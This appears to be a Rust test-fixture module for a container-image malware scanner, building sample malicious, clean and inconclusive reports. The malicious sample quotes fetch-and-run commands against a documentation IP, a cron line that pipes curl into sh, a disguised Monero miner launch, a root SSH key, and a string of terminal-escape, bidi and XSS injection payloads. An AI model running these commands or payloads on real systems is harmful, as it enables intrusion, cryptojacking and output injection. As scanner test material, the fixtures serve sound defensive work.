//! Reports made in code, with text that tries everything a hostile image could.
#![allow(dead_code, clippy::unwrap_used)]

pub mod campaigns;

use lazaret_model::*;

/// Acts on a terminal, turns a line around, breaks out of HTML, XML, Markdown and a table, makes
/// a link, a mention and an image.
pub const HOSTILE: &str = "\u{1b}[31m\u{1b}]8;;http://evil.invalid/\u{7}x\u{202e}gpj\u{200b}\u{9b}<script>alert(1)</script><img src=x onerror=alert(1)>\"'&]]>--> | `code` ``` @acme/security #1 [x](http://evil.invalid/) ![y](http://evil.invalid/p.png) https://evil.invalid/a www.evil.invalid mailto:a@evil.invalid {0} \\| </details>\u{0}\u{fffe}\u{e0041}";

pub fn digest(seed: u8) -> Digest {
    // Digits that differ from each other, so that a mixed-up digest is seen in a golden file.
    let mut bytes = [0u8; 32];
    for (at, byte) in bytes.iter_mut().enumerate() {
        *byte = seed.wrapping_mul(31).wrapping_add((at as u8).wrapping_mul(73)) ^ seed;
    }
    Digest::sha256(&bytes)
}

pub fn rule(id: &str, class: Class, severity: Severity, attack: &[&str]) -> Rule {
    Rule {
        id: id.to_owned(),
        title: format!("do what `{id}` describes"),
        explanation: "What is seen, in two sentences. It matters because somebody pays for the work.\nWhat to do: do not run it, and report it.".to_owned(),
        class,
        severity,
        confidence: Confidence::High,
        attack: attack.iter().map(|&a| a.to_owned()).collect(),
        references: vec!["https://example.com/rule".to_owned()],
    }
}

fn layer(index: usize, history: usize, size: u64, seed: u8) -> Layer {
    Layer {
        index,
        digest: digest(seed),
        diff_id: Some(digest(seed.wrapping_add(100))),
        media_type: "application/vnd.oci.image.layer.v1.tar+gzip".to_owned(),
        size,
        history: Some(history),
        foreign_urls: Vec::new(),
    }
}

fn step(created_by: &str, empty_layer: bool) -> HistoryStep {
    HistoryStep {
        created_by: created_by.to_owned(),
        created: "2026-03-01T10:00:00Z".to_owned(),
        comment: String::new(),
        empty_layer,
    }
}

fn image(pinned: &PinnedRef, platform: &str, seed: u8) -> Image {
    Image {
        pinned: pinned.clone(),
        manifest: digest(seed),
        config_digest: digest(seed.wrapping_add(1)),
        platform: Some(platform.parse().unwrap()),
        config: ImageConfig {
            entrypoint: vec!["/usr/local/bin/start.sh".to_owned()],
            history: vec![
                step("/bin/sh -c #(nop) ADD file:5b2f… in / ", false),
                step("ENV JAVA_HOME=/opt/java", true),
                step(
                    "RUN apt-get update && apt-get install -y --no-install-recommends openjdk-21-jre-headless # buildkit",
                    false,
                ),
                step("COPY webapps /opt/tomcat/webapps # buildkit", false),
                step(
                    "RUN /bin/sh -c curl -fsSL http://198.51.100.23/logo.jpg -o /tmp/.x && sh /tmp/.x # buildkit",
                    false,
                ),
                step("COPY start.sh /usr/local/bin/start.sh # buildkit", false),
            ],
            ..ImageConfig::default()
        },
        layers: vec![
            layer(0, 0, 31_400_000, seed.wrapping_add(2)),
            layer(1, 2, 87_000_000, seed.wrapping_add(3)),
            layer(2, 3, 11_800_000, seed.wrapping_add(4)),
            layer(3, 4, 2_700_000, seed.wrapping_add(5)),
            layer(4, 5, 612, seed.wrapping_add(6)),
        ],
    }
}

fn report(repository: &str, tag: &str, source: &str, images: Vec<ImageReport>, verdict: Verdict) -> Report {
    Report {
        requested: format!("{repository}:{tag}"),
        pinned: PinnedRef { repository: repository.to_owned(), tag: Some(tag.to_owned()), digest: digest(1) },
        source: source.to_owned(),
        images,
        unscanned: Vec::new(),
        verdict,
        rules_version: "2026.11.1".to_owned(),
        rule_packs: Vec::new(),
        feeds: Vec::new(),
        campaigns: Vec::new(),
        timing: Timing { total_ms: 2_345 },
    }
}

fn verdict(outcome: Outcome, why: &str, would_change: &str, has_gaps: bool) -> Verdict {
    Verdict { outcome, why: why.to_owned(), would_change: would_change.to_owned(), has_gaps }
}

fn coverage() -> Coverage {
    Coverage { layers: 5, layers_read: 5, layers_remembered: 2, files: 14_231, bytes: 402_118_656, gaps: 0 }
}

fn miner() -> Finding {
    let rule =
        rule("impact/stratum-on-start-path", Class::Malware, Severity::Critical, &["T1496.001", "T1036.005"]);
    let mut binary = Evidence::at(
        Location::file(3, "usr/sbin/apache2".into()).at_offset(0x1f40),
        "an executable that speaks the stratum protocol, named like a web server that no package installed",
    )
    .quoting("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"%s\"}}");
    binary.sha256 = Some(digest(77));
    let mut script = Evidence::at(
        Location::file(4, "usr/local/bin/start.sh".into()).at_line(7),
        "the entry point starts it in the background with a pool and a wallet",
    )
    .quoting("nohup /usr/sbin/apache2 -o stratum+tcp://pool.example.invalid:3333 -u 4WALLETFORTESTSONLY -p x >/dev/null 2>&1 &");
    script.sha256 = Some(digest(78));
    Finding::of(&rule, "Starts a Monero miner that calls itself apache2, next to Tomcat", script)
        .and(Evidence::at(Location::Config("Entrypoint".to_owned()), "starts the script").quoting("[\"/usr/local/bin/start.sh\"]"))
        .and(binary)
        .reach(Reach::Starts)
        .indicator(Indicator::new(IndicatorKind::Wallet, "xmr:4WALLETFORTESTSONLY"))
        .indicator(Indicator::new(IndicatorKind::Pool, "stratum+tcp://pool.example.invalid:3333"))
        .refuted_by("an owner who can show that the binary at /usr/sbin/apache2 is the web server, built from its public source")
        .build()
}

fn hostile_finding() -> Finding {
    let rule = rule("execution/pipe-to-shell", Class::Malware, Severity::High, &["T1059.004"]);
    let path = EntryPath::clean(b"tmp/\x1b[2J\xff\xe2\x80\xae|`x`<b>@acme/y.sh");
    let mut first = Evidence::at(Location::file(3, path).at_line(2), HOSTILE).quoting(HOSTILE);
    first.sha256 = Some(digest(79));
    Finding::of(&rule, format!("Pipes what it fetched into a shell {HOSTILE}"), first)
        .reach(Reach::Reachable)
        .confidence(Confidence::Medium)
        .indicator(Indicator::new(IndicatorKind::Url, HOSTILE))
        .refuted_by(HOSTILE)
        .build()
}

fn history_finding() -> Finding {
    let rule = rule("execution/fetch-in-history", Class::Malware, Severity::Medium, &["T1105"]);
    Finding::of(
        &rule,
        "Fetched a file named like a picture from a bare address and ran it while the image was built",
        Evidence::at(Location::History(4), "curl from an address without a name, then sh")
            .quoting("curl -fsSL http://198.51.100.23/logo.jpg -o /tmp/.x && sh /tmp/.x"),
    )
    .reach(Reach::Dormant)
    .indicator(Indicator::new(IndicatorKind::Host, "198.51.100.23"))
    .build()
}

fn key_finding(line: u32) -> Finding {
    let rule = rule("persistence/ssh-key", Class::Exposure, Severity::Medium, &["T1098.004"]);
    Finding::of(
        &rule,
        "Holds an SSH key that lets its owner in as root",
        Evidence::at(
            Location::file(2, "root/.ssh/authorized_keys".into()).at_line(line),
            "an authorised key",
        )
        .quoting("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFORTESTSONLY ops@builder.example"),
    )
    .reach(Reach::Dormant)
    .build()
}

fn behaviours() -> Vec<Behaviour> {
    let process = |argv: &[&str], fed_by: &[&str]| BehaviourKind::Process {
        argv: argv.iter().map(|&a| a.to_owned()).collect(),
        image: None,
        parent: Some("start.sh".to_owned()),
        fed_by: fed_by.iter().map(|&a| a.to_owned()).collect(),
        stdin: None,
        downloaded: None,
    };
    let line = |number| {
        vec![
            Location::file(4, "usr/local/bin/start.sh".into()).at_line(number),
            Location::Config("Entrypoint".to_owned()),
        ]
    };
    let one = |kind, phase, certainty, because| Behaviour { kind, phase, certainty, because };
    vec![
        one(
            BehaviourKind::Network {
                host: "198.51.100.23".to_owned(),
                port: Some(80),
                url: Some("http://198.51.100.23/logo.jpg".to_owned()),
                by: "curl".to_owned(),
            },
            Phase::Build,
            Certainty::Will,
            vec![Location::History(4)],
        ),
        one(
            process(&["/bin/sh", "/usr/local/bin/start.sh"], &[]),
            Phase::Start,
            Certainty::Will,
            vec![Location::Config("Entrypoint".to_owned())],
        ),
        one(
            process(&["nohup", "/usr/sbin/apache2", "-o", "stratum+tcp://pool.example.invalid:3333"], &[]),
            Phase::Start,
            Certainty::Will,
            line(7),
        ),
        one(
            BehaviourKind::File {
                op: FileOp::Append,
                path: "/mnt/etc/crontab".to_owned(),
                content: Some("* * * * * root curl http://198.51.100.23/a.sh | sh\n".to_owned()),
                by: "echo".to_owned(),
            },
            Phase::Start,
            Certainty::May,
            line(9),
        ),
        one(
            process(&["sh"], &["curl"]),
            Phase::Scheduled,
            Certainty::Will,
            vec![Location::file(4, "etc/crontab".into()).at_line(3)],
        ),
        one(process(&[HOSTILE], &[HOSTILE]), Phase::Login, Certainty::May, Vec::new()),
    ]
}

/// Two platforms: one with a miner and hostile names, one with a part of the same.
pub fn malicious() -> Report {
    let pinned = PinnedRef {
        repository: "docker.io/acme/tomcat".to_owned(),
        tag: Some("8".to_owned()),
        digest: digest(1),
    };
    let amd64 = ImageReport {
        image: image(&pinned, "linux/amd64", 10),
        verdict: verdict(
            Outcome::Malicious,
            "The container starts a Monero miner under the name of a web server, with a pool and a wallet whose checksum is right.",
            "Nothing that can be read in the image; its owner would have to show that the miner is what the image says it is.",
            false,
        ),
        findings: vec![
            miner(),
            hostile_finding(),
            history_finding(),
            key_finding(1),
            key_finding(2),
            key_finding(3),
        ],
        ignored: vec![IgnoredFinding {
            finding: key_finding(9),
            reason: "the key of our own deploy job".to_owned(),
            author: "ops@example.com".to_owned(),
            expires: "2027-01-31".to_owned(),
        }],
        gaps: vec![Gap::minor(
            GapKind::Encrypted,
            Location::File {
                layer: 2,
                path: "opt/tomcat/webapps/docs/sample.zip".into(),
                inside: vec!["secret.txt".to_owned()],
                line: None,
                offset: None,
            },
            "the member is encrypted; it is plain data that nothing starts",
        )],
        behaviours: behaviours(),
        coverage: coverage(),
        layer_sizes: vec![80_400_000, 231_000_000, 84_000_000, 6_700_000, 2_048],
        inventory: Default::default(),
        sightings: Vec::new(),
        base: None,
        launch: None,
    };
    let arm64 = ImageReport {
        image: image(&pinned, "linux/arm64/v8", 40),
        verdict: verdict(
            Outcome::Suspicious,
            "While it was built, a file named like a picture was fetched from a bare address and run.",
            "The script that was run, if it is public and harmless.",
            false,
        ),
        findings: vec![history_finding()],
        ignored: Vec::new(),
        gaps: Vec::new(),
        behaviours: Vec::new(),
        coverage: coverage(),
        layer_sizes: vec![80_400_000, 229_000_000, 84_000_000, 0, 2_048],
        inventory: Default::default(),
        sightings: Vec::new(),
        base: None,
        launch: None,
    };
    let mut report = report(
        "docker.io/acme/tomcat",
        "8",
        "registry docker.io",
        vec![arm64, amd64],
        verdict(
            Outcome::Malicious,
            "The container starts a Monero miner under the name of a web server, with a pool and a wallet whose checksum is right.",
            "Nothing that can be read in the image; its owner would have to show that the miner is what the image says it is.",
            false,
        ),
    );
    report.unscanned.push(Unscanned {
        digest: digest(200),
        platform: Some("unknown/unknown".parse().unwrap()),
        reason: "an attestation, not an image".to_owned(),
    });
    report
}

/// One platform, nothing to say.
pub fn clean() -> Report {
    let pinned = PinnedRef {
        repository: "docker.io/library/nginx".to_owned(),
        tag: Some("1.27".to_owned()),
        digest: digest(1),
    };
    let clean = verdict(
        Outcome::Clean,
        "Everything that could matter was read and nothing speaks against it.",
        "A rule that is newer than 2026.11.1.",
        false,
    );
    let image = ImageReport {
        image: image(&pinned, "linux/amd64", 60),
        verdict: clean.clone(),
        findings: Vec::new(),
        ignored: Vec::new(),
        gaps: Vec::new(),
        behaviours: Vec::new(),
        coverage: Coverage { layers_remembered: 0, ..coverage() },
        layer_sizes: vec![80_400_000, 231_000_000, 84_000_000, 6_700_000, 2_048],
        inventory: Default::default(),
        sightings: Vec::new(),
        base: None,
        launch: None,
    };
    report("docker.io/library/nginx", "1.27", "registry docker.io", vec![image], clean)
}

/// A layer that was not read to its end, and a foreign one.
pub fn inconclusive() -> Report {
    let pinned = PinnedRef { repository: "oci:../layouts/cron job".to_owned(), tag: None, digest: digest(1) };
    let inconclusive = verdict(
        Outcome::Inconclusive,
        "Layer 3 ends early and layer 4 is fetched from elsewhere, so what they hold is not known.",
        "The whole of layer 3, and the content of layer 4.",
        true,
    );
    let mut described = image(&pinned, "linux/amd64", 80);
    described.layers[4].history = None;
    let gaps = vec![
        Gap::serious(
            GapKind::Damaged,
            Location::Layer(3),
            format!("the gzip stream ends after 1,204,224 bytes {HOSTILE}"),
        ),
        Gap::serious(GapKind::Missing, Location::Layer(4), "the layer is foreign and is never fetched"),
        Gap::serious(
            GapKind::Budget(BudgetKind::Depth),
            Location::file(2, "opt/app/lib/a.jar".into()),
            "archives in archives deeper than 6 (raise with --max-depth)",
        ),
        Gap::minor(
            GapKind::AnalyzerFailed("elf".to_owned()),
            Location::file(0, "usr/lib/debug/x.debug".into()),
            "the section table lies outside of the file",
        ),
        Gap::minor(GapKind::TrailingData, Location::Layer(1), "512 bytes stand after the end of the archive"),
    ];
    let image = ImageReport {
        image: described,
        verdict: inconclusive.clone(),
        findings: Vec::new(),
        ignored: Vec::new(),
        gaps,
        behaviours: Vec::new(),
        coverage: Coverage {
            layers: 5,
            layers_read: 3,
            layers_remembered: 0,
            files: 9_120,
            bytes: 301_118_656,
            gaps: 3,
        },
        layer_sizes: vec![80_400_000, 231_000_000, 84_000_000, 1_204_224, 0],
        inventory: Default::default(),
        sightings: Vec::new(),
        base: None,
        launch: None,
    };
    let mut report =
        report("oci:../layouts/cron job", "-", "OCI layout ../layouts/cron job", vec![image], inconclusive);
    report.pinned.tag = None;
    report.requested = "oci:../layouts/cron job".to_owned();
    report
}

/// Every row of a table in Markdown has as many cells as its head.
pub fn assert_tables_are_even(markdown: &str) {
    for block in markdown.split("\n\n") {
        let rows: Vec<usize> = block
            .lines()
            .filter(|line| line.starts_with('|'))
            .map(|line| line.matches('|').count())
            .collect();
        assert!(rows.windows(2).all(|pair| pair[0] == pair[1]), "{block}");
    }
}
